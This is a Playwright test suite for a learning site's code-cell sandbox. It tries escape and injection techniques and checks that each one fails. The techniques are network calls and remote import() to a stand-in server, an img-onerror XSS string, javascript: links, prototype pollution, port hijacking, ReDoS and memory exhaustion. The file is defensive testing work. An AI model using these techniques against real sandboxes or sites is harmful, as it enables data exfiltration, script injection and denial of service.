/** Ways out of the sandbox that a cell might try. Each is tried, from code that came with a link, and each must fail. */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from '@playwright/test'
import { cellOf, codeLink, output, run } from './cell'
import { evaluateInFirefox, findFirefox } from './firefox'

const page = '/relu/'
const id = 'relu-sparse'

/** A server elsewhere: whatever a cell gets to ask of it has escaped. */
let server: Server
let away = ''
const asked: string[] = []

test.beforeAll(async () => {
	server = createServer((request, response) => {
		asked.push(request.url ?? '')
		response.setHeader('Access-Control-Allow-Origin', '*').end('globalThis.leaked = "leaked"')
	}).listen(0)
	await new Promise((resolve) => server.once('listening', resolve))
	away = `localhost:${(server.address() as AddressInfo).port}`
})
test.afterAll(() => server.close())

/** Runs a cell's code for a while longer, so that what it has begun has time to be done. */
const wait = 'for (const end = Date.now() + 700; Date.now() < end; );'
const tried = (code: string): string =>
	`let out: any = ''\ntry {\n\tout = (() => ${code})()\n} catch (error) {\n\tout = 'refused'\n}\n`

interface Attempt {
	readonly name: string
	/** An expression; `AWAY` stands for the other server. */
	readonly does: string
	/** What the cell is left with. */
	readonly gets: RegExp
}

const attempts: readonly Attempt[] = [
	{ name: 'fetch', does: '(fetch("http://AWAY/fetch").catch(() => {}), "asked")', gets: /^asked$/ },
	{
		name: 'XMLHttpRequest, waiting for it',
		does: '{ const r = new XMLHttpRequest(); r.open("GET", "http://AWAY/xhr", false); r.send(); return r.responseText }',
		gets: /^refused$/,
	},
	{
		name: 'XMLHttpRequest to the site itself',
		does: '{ const r = new XMLHttpRequest(); r.open("GET", "ORIGIN/theme.js", false); r.send(); return r.responseText }',
		gets: /^refused$/,
	},
	{ name: 'WebSocket', does: '(new WebSocket("ws://AWAY/socket"), "asked")', gets: /^(asked|refused)$/ },
	{ name: 'EventSource', does: '(new EventSource("http://AWAY/events"), "asked")', gets: /^(asked|refused)$/ },
	{ name: 'WebTransport', does: '(new WebTransport("https://AWAY/transport"), "asked")', gets: /^(asked|refused)$/ },
	{ name: 'sendBeacon', does: '(navigator as any).sendBeacon("http://AWAY/beacon")', gets: /^refused$/ },
	{
		name: 'import() of an address',
		does: '(import("http://AWAY/import" as any).catch(() => {}), "asked")',
		gets: /^asked$/,
	},
	{
		name: 'import() of data',
		does: '(import("data:text/javascript,globalThis.leaked=1" as any).catch(() => {}), (globalThis as any).leaked)',
		gets: /^$/,
	},
	{ name: 'importScripts', does: '(self as any).importScripts("http://AWAY/scripts")', gets: /^refused$/ },
	{
		name: 'a font',
		does: '(new FontFace("a", "url(http://AWAY/font)").load().catch(() => {}), "asked")',
		gets: /^(asked|refused)$/,
	},
	{
		name: 'a worker of its own',
		does: '(new (self as any).Worker("data:text/javascript,"), "made")',
		gets: /^refused$/,
	},
	{
		name: 'a worker, by the constructor of something else',
		does: '[self, Object.getPrototypeOf(self), globalThis].some((one: any) => one.Worker || one.SharedWorker)',
		gets: /^false$/,
	},
	{
		name: 'windows, the page, its document',
		does: '["window", "parent", "top", "opener", "frames", "frameElement", "document", "open", "alert"].filter((one) => one in globalThis).join()',
		gets: /^$/,
	},
	{
		name: 'what a browser keeps',
		does: '["localStorage", "sessionStorage", "cookieStore", "indexedDB", "caches"].filter((one) => (globalThis as any)[one]).join()',
		gets: /^$/,
	},
	{ name: 'the origin of the site', does: '(origin + " " + location.protocol)', gets: /^null blob:$/ },
	{
		name: 'going elsewhere',
		does: '{ (location as any).href = "http://AWAY/go"; return location.protocol }',
		gets: /^(blob:|refused)$/,
	},
	{ name: 'a channel to others', does: 'new BroadcastChannel("bend")', gets: /^refused$/ },
	{ name: 'answering in its own words', does: '(self as any).postMessage({ cell: 0 })', gets: /^refused$/ },
	{
		name: 'taking hold of the port it is answered through',
		does: '{ MessagePort.prototype.postMessage = function () { (globalThis as any).port = this }; Function.prototype.call = () => 7; return (globalThis as any).port }',
		gets: /^$/,
	},
	{ name: 'ending itself', does: '(self as any).close()', gets: /^refused$/ },
	{
		name: 'a function made of text',
		does: 'new Function("return typeof parent + typeof document")()',
		gets: /^undefinedundefined$/,
	},
]

for (const { name, does, gets } of attempts) {
	test(`${name}: refused`, async ({ page: tab, baseURL }) => {
		const code = tried(does)
			.replaceAll('AWAY', away)
			.replaceAll('ORIGIN', new URL(baseURL ?? '').origin)
		asked.length = 0
		await tab.goto(page + codeLink({ [id]: `${code}${wait}\nprint(String(out ?? ''))` }))
		const cell = cellOf(tab, id)
		await run(cell)
		expect((await output(cell)).trim()).toMatch(gets)
		expect(asked).toEqual([])
		expect(tab.context().pages()).toHaveLength(1)
		expect(new URL(tab.url()).pathname).toBe(page)
	})
}

/** Code that runs unwrapped, and what comes of it. */
const harm: readonly {
	readonly name: string
	readonly code: string
	readonly fault?: RegExp
	readonly shows?: RegExp
}[] = [
	{
		name: 'markup in text',
		code: 'print("</script></pre><img src=x onerror=\\"document.title=1\\">")',
		shows: /<\/script><\/pre><img src=x/,
	},
	{
		name: 'microtasks without end',
		code: 'const spin = (): unknown => Promise.resolve().then(spin)\nspin()\n"done"',
		shows: /^done$/,
	},
	{ name: 'timers after the end', code: 'setInterval(() => print("late"), 1)\n"done"', shows: /^done$/ },
	{ name: 'output without end', code: 'for (let i = 0; i < 1e7; i++) print("x".repeat(1000))', shows: /^x+/ },
	{
		name: 'a list that grows in being read',
		code: 'const a: any = new Proxy([], { get: (t, k) => k === "length" ? 1e9 : 1 })\na',
		shows: /^/,
	},
	{
		name: 'a forged length of the report',
		code: 'const huge = "x".repeat(5e6)\n;(Object.prototype as any).toJSON = () => huge\n1',
		fault: /./,
	},
	{ name: 'a report that is none', code: ';(Object.prototype as any).toJSON = () => 7\n1', fault: /./ },
	{
		name: 'a picture that is a script',
		code: 'const p: any = Plot.dot([1]).plot()\np.toTree = () => ["script", {}, ["document.title = 1"]]\np',
		fault: /./,
	},
	{
		name: 'a picture with scripts, links and images in it',
		code: 'const p: any = Plot.plot({ marks: [Plot.image([{}], { x: 1, y: 1, src: () => "http://AWAY/image" }), Plot.dot([1], { href: () => "javascript:document.title=1" })] })\np.setAttribute("onload", "document.title=1")\np.setAttribute("style", "position:fixed;inset:0")\np',
		shows: /^/,
	},
	{
		name: 'buffers without end',
		code: 'const all: unknown[] = []\nfor (;;) all.push(new Uint8Array(1e8))',
		fault: /内存/,
	},
	{ name: 'a string without end', code: 'let s = "abc"\nfor (;;) s += s', fault: /内存/ },
	{ name: 'a recursion without end', code: 'const f = (): number => f() + 1\nf()', fault: /递归/ },
	{ name: 'a pattern that never ends', code: '/(a+)+$/.test("a".repeat(60) + "b")', fault: /2 秒/ },
]

for (const { name, code, fault, shows } of harm) {
	test(`${name}: does no harm`, async ({ page: tab }) => {
		asked.length = 0
		await tab.goto(page)
		const title = await tab.title()
		const elements = () =>
			tab.evaluate(() => document.querySelectorAll('script, img, image, iframe, a[href^="javascript"]').length)
		const before = await elements()
		await tab.goto(page + codeLink({ [id]: code.replaceAll('AWAY', away) }))
		await tab.reload()
		const cell = cellOf(tab, id)
		await run(cell)
		if (fault) await expect(cell.locator('[data-fault]')).toContainText(fault)
		else expect(await output(cell)).toMatch(shows as RegExp)
		expect(await tab.title()).toBe(title)
		expect(await elements()).toBe(before)
		expect(await cell.locator('[onload], [style*="position"], [href]').count()).toBe(0)
		expect(asked).toEqual([])
	})
}

test('prototypes that a cell bends are its own', async ({ page: tab }) => {
	const code =
		'const p: any = Object.prototype\np.polluted = 1\n;(Array.prototype as any).map = () => ["bent"]\nJSON.parse(\'{"__proto__": {"polluted": 1}}\')'
	await tab.goto(page + codeLink({ [id]: code }))
	await run(cellOf(tab, id))
	expect(await tab.evaluate(() => [({} as { polluted?: 1 }).polluted, [1].map((v) => v)[0]])).toEqual([undefined, 1])
})

test('nothing that a cell does is kept but its code', async ({ page: tab }) => {
	await tab.goto(page)
	const kept = () => tab.evaluate(() => [JSON.stringify(localStorage), document.cookie])
	const before = await kept()
	await tab.goto(page + codeLink({ [id]: 'try { localStorage.bend = "x" } catch {}\n1' }))
	await tab.reload()
	await run(cellOf(tab, id))
	expect(await kept()).toEqual(before)
})

test('one run neither sees nor answers for another', async ({ page: tab }) => {
	const leave = ';(globalThis as any).left = 1\nsetInterval(() => { throw 1 }, 1)\n"first"'
	await tab.goto(
		`/practice/${codeLink({ 'practice-draw': leave, 'practice-own': '(globalThis as any).left ?? "nothing"' })}`,
	)
	await run(cellOf(tab, 'practice-draw'))
	// the cell below runs the one above anew: of the first run itself nothing is left
	await tab.goto(
		`/practice/${codeLink({ 'practice-draw': '1', 'practice-gelu': '1', 'practice-own': '(globalThis as any).left ?? "nothing"' })}`,
	)
	await tab.reload()
	for (const other of ['practice-draw', 'practice-gelu', 'practice-own']) await run(cellOf(tab, other))
	expect(await output(cellOf(tab, 'practice-own'))).toBe('nothing')
	expect(await tab.locator('iframe').count()).toBe(0)
})

test('a run that exhausts memory loses only itself', async ({ page: tab, context }) => {
	// where it takes its process along, the tests’ own line to the tab may go as well: another tab listens in
	const watcher = await context.newPage()
	await watcher.goto('/404.html').catch(() => {})
	await watcher.evaluate(() => {
		const heard: string[] = []
		Object.assign(window, { heard })
		new BroadcastChannel('e2e').onmessage = ({ data }) => heard.push(data)
	})
	await tab.addInitScript(() => {
		const channel = new BroadcastChannel('e2e')
		setInterval(
			() => channel.postMessage(document.querySelector('[data-cell] [data-lamp]')?.getAttribute('data-is') ?? ''),
			100,
		)
	})
	const hoard = 'const all: unknown[] = []\nfor (;;) all.push(new Array(1e6).fill(1.5))'
	await tab.goto(page + codeLink({ [id]: hoard }))
	const heard = () => watcher.evaluate(() => (window as unknown as { heard: string[] }).heard.splice(0))
	await cellOf(tab, id).locator('[data-do="run"]').click()
	await expect.poll(async () => (await heard()).at(-1), { timeout: 30_000 }).toBe('error')
	// and the page goes on
	await expect.poll(async () => (await heard()).length, { timeout: 10_000 }).toBeGreaterThan(2)
})

test('the sandbox’s page runs nothing for who opens it by itself, or frames it as part of the site', async ({
	page: tab,
}) => {
	await tab.goto('/sandbox/')
	await expect(tab.locator('body')).toBeVisible()
	await expect(tab.locator('p').first()).toContainText('课文')
	await tab.goto(page)
	const answered = await tab.evaluate(async () => {
		const frame = document.createElement('iframe')
		frame.src = '/sandbox/'
		document.body.append(frame)
		await new Promise((resolve) => frame.addEventListener('load', resolve))
		const [answers, pulse] = [new MessageChannel(), new MessageChannel()]
		let got = false
		for (const { port1 } of [answers, pulse]) port1.onmessage = () => (got = true)
		const order = { script: 'onmessage = (e) => e.ports[0].postMessage(1)', sources: [], width: 1 }
		frame.contentWindow?.postMessage(order, '*', [answers.port2, pulse.port2])
		await new Promise((resolve) => setTimeout(resolve, 1000))
		return got
	})
	expect(answered).toBe(false)
})

test('Firefox runs cells as well, and lets as little out', async ({ baseURL }) => {
	const firefox = findFirefox()
	test.skip(!firefox, 'no Firefox on this machine')
	test.slow()
	asked.length = 0
	const { origin } = new URL(baseURL ?? '')
	const codes = attempts.map(({ does }) => {
		const code = tried(does).replaceAll('AWAY', away).replaceAll('ORIGIN', origin)
		return codeLink({ [id]: `${code}${wait}\nprint(String(out ?? ''))` })
	})
	const hoard = codeLink({ [id]: 'const all: unknown[] = []\nfor (;;) all.push(new Uint8Array(1e8))' })
	const all = [codeLink({ [id]: '6 * 7' }), hoard, codeLink({ [id]: 'for (;;);' }), ...codes]
	const script = `(async (links) => {
		const cell = document.querySelector('[data-cell="${id}"]')
		const shown = []
		for (const link of links) {
			location.hash = link
			await new Promise((resolve) => setTimeout(resolve, 300))
			cell.querySelector('[data-do="run"]').click()
			while (!cell.hasAttribute('data-running')) await new Promise((resolve) => setTimeout(resolve, 20))
			while (cell.hasAttribute('data-running')) await new Promise((resolve) => setTimeout(resolve, 20))
			const fault = cell.querySelector('[data-fault]')
			shown.push(fault.hidden ? cell.querySelector('[data-out]').innerText : fault.innerText)
		}
		return JSON.stringify(shown)
	})(${JSON.stringify(all)})`
	const [sum, memory, loop, ...got] = JSON.parse(await evaluateInFirefox(firefox ?? '', script, `${origin}${page}`))
	expect(sum).toBe('42')
	expect(memory).toContain('内存')
	expect(loop).toContain('2 秒')
	for (const [i, text] of got.entries()) expect(text.trim(), attempts[i]?.name).toMatch(attempts[i]?.gets as RegExp)
	expect(asked).toEqual([])
})
